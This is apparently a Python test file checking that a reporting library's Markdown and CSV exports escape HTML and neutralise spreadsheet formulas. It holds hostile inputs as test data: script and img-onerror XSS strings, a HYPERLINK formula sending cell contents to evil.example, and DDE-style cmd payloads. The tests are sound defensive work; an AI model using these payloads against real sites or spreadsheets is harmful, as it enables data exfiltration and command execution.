"""Issue 14 finding 12: Markdown and CSV outputs escape what they carry."""

import csv
import io

from uncertainty_gk.report import _md_text
from uncertainty_gk.tables import Column, Table

EVIL_LABEL = '<script>alert(1)</script>'
EVIL_IMG = '<img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _table():
    cols = [Column("model"), Column("file"), Column("note"), Column("x", "x", "K", kind="number"),
            Column("n", kind="int")]
    rows = [[EVIL_LABEL, EVIL_IMG, FORMULA, -1.5, -3],
            ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd", 2.0, 4],
            ["ok", "a|b\nc", "-7.25", float("-inf"), 0]]
    return Table(columns=cols, rows=rows, caption=f"runs {EVIL_IMG}", notes=[f"log line {EVIL_LABEL}"])


def test_markdown_cells_cannot_carry_html():
    md = _table().to_markdown()
    assert "<script" not in md and "<img" not in md
    assert "&lt;script>alert(1)&lt;/script>" in md and "&lt;img src=x onerror=alert(1)>" in md
    assert r"a\|b c" in md                                # a cell cannot break the table
    for line in md.splitlines():
        if line.startswith("| ok"):
            assert line.count(" | ") == 4


def test_csv_neutralises_formulas_but_keeps_numbers():
    rows = list(csv.reader(io.StringIO(_table().to_csv())))
    body = rows[1:]
    assert body[0][2] == "'" + FORMULA
    assert body[1][0].startswith("'+cmd") and body[1][1].startswith("'@SUM") and body[1][2] == "'-2+3+cmd"
    assert body[2][2] == "-7.25"                          # a plain negative number stays a number
    assert body[0][3] == "-1.5" and body[0][4] == "-3" and body[2][3] == "-inf"
    assert all(not c.startswith(("=", "@")) for r in body for c in r)


def test_report_markdown_text_escapes_html():
    assert _md_text(f"run {EVIL_IMG} & more") == "run &lt;img src=x onerror=alert(1)> &amp; more"
    assert "<" not in _md_text("<b>bold</b><!-- c --><?php ?>")
